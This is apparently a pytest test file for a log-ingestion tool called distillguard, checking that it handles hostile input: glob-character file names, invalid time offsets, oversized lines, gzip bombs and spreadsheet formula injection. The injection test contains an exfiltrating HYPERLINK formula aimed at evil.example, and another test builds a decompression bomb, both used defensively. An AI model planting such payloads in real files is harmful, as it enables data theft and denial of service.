"""Ingest under hostile or careless input: odd file names, huge lines, bombs, bad offsets, repeats."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import datetime, timezone

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.records import good_record, rows, write_jsonl
from distillguard.errors import IngestError
from distillguard.ingest import ingest_paths
from distillguard.schema import ARROW_SCHEMA
from distillguard.store import Store


def run_cli(*args: str) -> subprocess.CompletedProcess:
    # wide enough that rich's tables never fold a path over two lines
    return subprocess.run([sys.executable, "-m", "distillguard.cli", *args], capture_output=True, text=True,
                          timeout=120, env={**os.environ, "COLUMNS": "400"})


# --- file names are literal ----------------------------------------------------------------

@pytest.mark.parametrize("name", ["[ab].jsonl", "x*.jsonl", "a?.jsonl"])
def test_a_file_name_with_glob_characters_is_read_as_that_file_only(store, tmp_path, name):
    write_jsonl(tmp_path / "a.jsonl", [good_record(1)])
    write_jsonl(tmp_path / "b.jsonl", [good_record(2)])
    write_jsonl(tmp_path / "xa.jsonl", [good_record(1)])
    write_jsonl(tmp_path / "ab.jsonl", [good_record(2)])
    write_jsonl(tmp_path / name, [good_record(7), good_record(8)])
    [result] = ingest_paths(store, [tmp_path / name])
    assert result.path == str(tmp_path / name)
    assert rows(store, "SELECT exchange_id FROM exchanges ORDER BY 1") == [("ex-7",), ("ex-8",)]


def test_a_canonical_parquet_file_with_glob_characters_is_read_as_that_file_only(store, tmp_path):
    def write(name, ids):
        records = [{**good_record(i), "timestamp": datetime(2026, 4, 22, tzinfo=timezone.utc)} for i in ids]
        columns = {f.name: [r.get(f.name) for r in records] for f in ARROW_SCHEMA}
        pq.write_table(pa.table(columns, schema=ARROW_SCHEMA), tmp_path / name)

    write("a.parquet", [1])
    write("b.parquet", [2])
    write("[ab].parquet", [7, 8])
    [result] = ingest_paths(store, [tmp_path / "[ab].parquet"])
    assert result.rows_stored == 2
    assert rows(store, "SELECT exchange_id FROM exchanges ORDER BY 1") == [("ex-7",), ("ex-8",)]


def test_a_store_in_a_folder_with_glob_characters_reads_its_own_segments(tmp_path):
    folder = tmp_path / "logs[1]"
    folder.mkdir()
    (tmp_path / "logs1").mkdir()
    write_jsonl(tmp_path / "in.jsonl", [good_record(i) for i in range(3)])
    with Store(folder / "s.duckdb") as store:
        ingest_paths(store, [tmp_path / "in.jsonl"])
        assert rows(store, "SELECT count(*) FROM exchanges") == [(3,)]


def test_a_glob_pattern_that_names_no_file_is_expanded_in_sorted_order(store, tmp_path):
    write_jsonl(tmp_path / "b.jsonl", [good_record(2)])
    write_jsonl(tmp_path / "a.jsonl", [good_record(1)])
    (tmp_path / "notes.txt").write_text("not a log")
    results = ingest_paths(store, [str(tmp_path / "*")])
    assert [r.path for r in results] == [str(tmp_path / "a.jsonl"), str(tmp_path / "b.jsonl")]


def test_a_glob_pattern_that_matches_nothing_is_a_user_error(store, tmp_path):
    with pytest.raises(IngestError, match="no file matches it"):
        ingest_paths(store, [str(tmp_path / "*.jsonl")])


@pytest.mark.slow  # runs the CLI as a process
def test_the_ingest_summary_names_every_file_read_by_its_path(tmp_path):
    for sub in ("east", "west"):
        (tmp_path / sub).mkdir()
        write_jsonl(tmp_path / sub / "log.jsonl", [good_record(1 if sub == "east" else 2)])
    done = run_cli("ingest", str(tmp_path / "east"), str(tmp_path / "west"), "--db", str(tmp_path / "s.duckdb"))
    assert done.returncode == 0, done.stderr
    for sub in ("east", "west"):
        assert str(tmp_path / sub / "log.jsonl") in done.stdout


# --- timestamps ----------------------------------------------------------------------------

@pytest.mark.parametrize("suffix", [".jsonl", ".json", ".csv"])
def test_a_utc_offset_no_time_zone_has_is_quarantined_with_its_reason(store, tmp_path, suffix):
    stamps = ["2026-04-22T10:00:00+25:00", "2026-04-22T10:00:00-99:59", "2026-04-22T10:00:00+05:75",
              "2026-04-22T10:00:00+14:00", "2026-04-22T10:00:00-12:00", "2026-04-22T10:00:00.5+05:30",
              "2026-04-22 10:00:00Z", "2026-04-22"]
    records = [good_record(i, timestamp=t) for i, t in enumerate(stamps)]
    path = tmp_path / f"tz{suffix}"
    if suffix == ".jsonl":
        write_jsonl(path, records)
    elif suffix == ".json":
        path.write_text(json.dumps(records))
    else:
        path.write_text("exchange_id,timestamp,account_id,prompt\n"
                        + "".join(f"{r['exchange_id']},{r['timestamp']},{r['account_id']},p\n" for r in records))
    [result] = ingest_paths(store, [path])
    assert result.rows_stored == 5 and result.rows_quarantined == 3
    reasons = rows(store, "SELECT record_number, reason FROM quarantine ORDER BY 1")
    assert reasons == [(1, "bad timestamp: timestamp has UTC offset +25:00, beyond -14:00..+14:00"),
                       (2, "bad timestamp: timestamp has UTC offset -99:59, beyond -14:00..+14:00"),
                       (3, "bad timestamp: timestamp has UTC offset +05:75, beyond -14:00..+14:00")]
    kept = rows(store, "SELECT exchange_id, timestamp FROM exchanges ORDER BY exchange_id")
    assert [k[0] for k in kept] == ["ex-3", "ex-4", "ex-5", "ex-6", "ex-7"]
    assert kept[0][1].isoformat() == "2026-04-21T20:00:00+00:00"


# --- what is written for analysts ----------------------------------------------------------

@pytest.mark.slow  # runs the CLI as a process
def test_verdicts_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(tmp_path):
    import csv

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "plain-account"]
    write_jsonl(tmp_path / "in.jsonl", [good_record(i, account_id=hostile[i % len(hostile)])
                                        for i in range(6 * len(hostile))])
    db = str(tmp_path / "s.duckdb")
    assert run_cli("ingest", str(tmp_path / "in.jsonl"), "--db", db).returncode == 0
    done = run_cli("scan", "--db", db, "--out", str(tmp_path / "out"), "--lookback", "3650")
    assert done.returncode == 0, done.stderr
    with open(tmp_path / "out" / "verdicts.csv", newline="") as fh:
        accounts = {row["account_id"] for row in csv.DictReader(fh)}
    assert accounts == {"'" + a for a in hostile[:5]} | {"plain-account"}
    stored = pq.read_table(tmp_path / "out" / "verdicts.parquet").column("account_id").to_pylist()
    assert set(stored) == set(hostile)  # the Parquet output keeps the ids as they are


# --- repeats -------------------------------------------------------------------------------

def test_reingesting_a_file_quarantines_each_bad_record_once(store, tmp_path):
    records = [good_record(1), good_record(2, timestamp="yesterday"), "not json", good_record(3, input_tokens=-1)]
    path = tmp_path / "a.jsonl"
    path.write_text("".join((r if isinstance(r, str) else json.dumps(r)) + "\n" for r in records))
    (tmp_path / "copy.jsonl").write_bytes(path.read_bytes())
    first, second, third = ingest_paths(store, [path, path, tmp_path / "copy.jsonl"])
    assert first.rows_quarantined == second.rows_quarantined == third.rows_quarantined == 3
    assert second.balanced and second.rows_duplicate == 1
    assert rows(store, "SELECT line_number, reason_code FROM quarantine ORDER BY 1") == [
        (2, "bad timestamp"), (3, "malformed record"), (4, "bad value")]


def test_a_changed_file_quarantines_its_new_bad_records(store, tmp_path):
    path = write_jsonl(tmp_path / "a.jsonl", [good_record(1, timestamp="yesterday")])
    ingest_paths(store, [path])
    write_jsonl(path, [good_record(1, timestamp="yesterday"), good_record(2, timestamp="tomorrow")])
    ingest_paths(store, [path])
    assert rows(store, "SELECT count(*) FROM quarantine") == [(3,)]


# --- caps on what one file may cost --------------------------------------------------------

def _gzip(path, parts):
    import gzip
    with gzip.open(path, "wb", compresslevel=6) as fh:
        for part in parts:
            fh.write(part)
    return path


def test_a_jsonl_line_over_the_cap_is_quarantined_and_the_lines_around_it_are_kept(store, tmp_path):
    from distillguard.ingest.sources import IngestLimits
    long = json.dumps(good_record(2, prompt="x" * 5000))
    path = tmp_path / "a.jsonl"
    path.write_text(json.dumps(good_record(1)) + "\n" + long + "\n" + json.dumps(good_record(3)) + "\n")
    [result] = ingest_paths(store, [path], limits=IngestLimits(max_record_bytes=1000))
    assert (result.rows_in, result.rows_stored, result.rows_quarantined) == (3, 2, 1)
    [(line, code, raw)] = rows(store, "SELECT line_number, reason_code, raw FROM quarantine")
    assert (line, code) == (2, "line too long") and raw == long[:1000]


def _ingest_in_a_fresh_process(path, db) -> tuple[dict, int]:
    """The CLI's JSON summary of ``ingest path`` and the peak resident memory (MB) of the
    process that ran it.

    The peak is the child's own address space's high-water mark (VmHWM). Not ru_maxrss: Linux
    carries ru_maxrss across exec(), starting the child at its parent's peak, so a child of a
    pytest process that once grew to 1 GB (the full suite) reports 1 GB however little it uses.
    """
    code = ("import sys; from distillguard.cli import app\n"
            "try: app([sys.argv[1], sys.argv[2], '--db', sys.argv[3], '--json'])\n"
            "except SystemExit: pass\n"
            "hwm = next(l for l in open('/proc/self/status') if l.startswith('VmHWM:'))\n"
            "print(int(hwm.split()[1]) // 1024, file=sys.stderr)")
    done = subprocess.run([sys.executable, "-c", code, "ingest", str(path), str(db)], capture_output=True,
                          text=True, timeout=300)
    return json.loads(done.stdout)["files"][0], int(done.stderr.strip().splitlines()[-1])


@pytest.mark.slow  # a child process inflates a gzip bomb: about 9 s
@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="reads VmHWM from /proc (Linux)")
def test_an_endless_gzipped_line_is_quarantined_without_holding_it_in_memory(tmp_path):
    # 400 MB of one line in a 400 KB gzip: before the cap it was held whole, several times over
    path = _gzip(tmp_path / "bomb.jsonl.gz", [json.dumps(good_record(1)).encode() + b"\n"]
                 + [b"a" * (16 << 20)] * 25 + [b"\n", json.dumps(good_record(2)).encode() + b"\n"])
    small = _gzip(tmp_path / "small.jsonl.gz", [json.dumps(good_record(1)).encode() + b"\n"])
    _, baseline_mb = _ingest_in_a_fresh_process(small, tmp_path / "baseline.duckdb")
    summary, peak_mb = _ingest_in_a_fresh_process(path, tmp_path / "s.duckdb")
    assert (summary["rows_in"], summary["rows_stored"], summary["rows_quarantined"]) == (3, 2, 1)
    # what the line may cost is bounded by the cap, not by the line: the reader's carry up to
    # max_record_bytes (64 MiB) plus one 16 MiB read, briefly twice while joined (~170 MB measured,
    # the same for an 800 MB line); held whole even once it would be 400 MB more than the baseline
    # (interpreter, DuckDB, pyarrow: ~240 MB)
    assert peak_mb - baseline_mb < 300, f"peak {peak_mb} MB, {baseline_mb} MB for a one-line file"


def test_a_gzip_of_blank_lines_costs_little_cpu(store, tmp_path):
    import time
    path = _gzip(tmp_path / "blank.jsonl.gz", [json.dumps(good_record(1)).encode() + b"\n"]
                 + [b"\n" * (10 << 20)] * 10 + [b" \t\r\n" * (1 << 20), json.dumps(good_record(2)).encode()])
    started = time.process_time()
    [result] = ingest_paths(store, [path])
    cpu = time.process_time() - started
    assert (result.rows_in, result.rows_stored) == (2, 2)
    assert rows(store, "SELECT count(*) FROM quarantine") == [(0,)]
    assert cpu < 3.0, f"{cpu:.1f} s of CPU for 104 MB of blank lines"  # was 7.7 s


def test_reading_stops_at_the_decompressed_cap_and_the_rest_is_one_quarantined_record(store, tmp_path):
    from distillguard.ingest.sources import IngestLimits
    lines = [json.dumps(good_record(i)).encode() + b"\n" for i in range(10)]
    path = _gzip(tmp_path / "a.jsonl.gz", lines)
    cap = sum(len(x) for x in lines[:4]) + 5  # mid-way through the fifth line
    [result] = ingest_paths(store, [path], limits=IngestLimits(max_decompressed_bytes=cap))
    assert (result.rows_in, result.rows_stored, result.rows_quarantined) == (5, 4, 1)
    [(reason,)] = rows(store, "SELECT reason FROM quarantine")
    assert reason.startswith(f"too large: decompressed past {cap:,} bytes")


def test_a_csv_line_over_the_cap_is_quarantined_and_the_rows_around_it_are_kept(store, tmp_path):
    from distillguard.ingest.sources import IngestLimits
    path = tmp_path / "a.csv"
    path.write_text("exchange_id,timestamp,account_id,prompt\n"
                    "e1,2026-04-22T10:00:00Z,a,short\n"
                    f"e2,2026-04-22T10:00:00Z,a,{'y' * 5000}\n"
                    "e3,2026-04-22T10:00:00Z,a,short too\n")
    [result] = ingest_paths(store, [path], limits=IngestLimits(max_record_bytes=1000))
    assert (result.rows_in, result.rows_stored, result.rows_quarantined) == (3, 2, 1)
    assert rows(store, "SELECT line_number, reason_code FROM quarantine") == [(3, "line too long")]
    assert rows(store, "SELECT exchange_id FROM exchanges ORDER BY 1") == [("e1",), ("e3",)]


def test_a_json_document_record_over_the_cap_is_quarantined_and_the_records_around_it_are_kept(store, tmp_path):
    from distillguard.ingest.sources import IngestLimits
    path = tmp_path / "a.json"
    path.write_text(json.dumps([good_record(1), good_record(2, prompt="z" * 5000), good_record(3)]))
    [result] = ingest_paths(store, [path], limits=IngestLimits(max_record_bytes=1000))
    assert (result.rows_in, result.rows_stored, result.rows_quarantined) == (3, 2, 1)
    assert rows(store, "SELECT record_number, reason_code FROM quarantine") == [(2, "record too large")]


@pytest.mark.slow  # runs the CLI as a process
def test_a_jsonl_file_that_opens_with_null_is_quarantined_not_a_crash(tmp_path):
    # pyarrow's JSON reader dies of SIGSEGV on such a chunk: the whole ingest process went with it
    (tmp_path / "nulls.jsonl").write_text("null\n" + json.dumps(good_record(1)) + "\n")
    done = run_cli("ingest", str(tmp_path / "nulls.jsonl"), "--db", str(tmp_path / "s.duckdb"), "--json")
    assert done.returncode == 0, (done.returncode, done.stderr[-500:])
    [summary] = json.loads(done.stdout)["files"]
    assert (summary["rows_in"], summary["rows_stored"], summary["rows_quarantined"]) == (2, 1, 1)
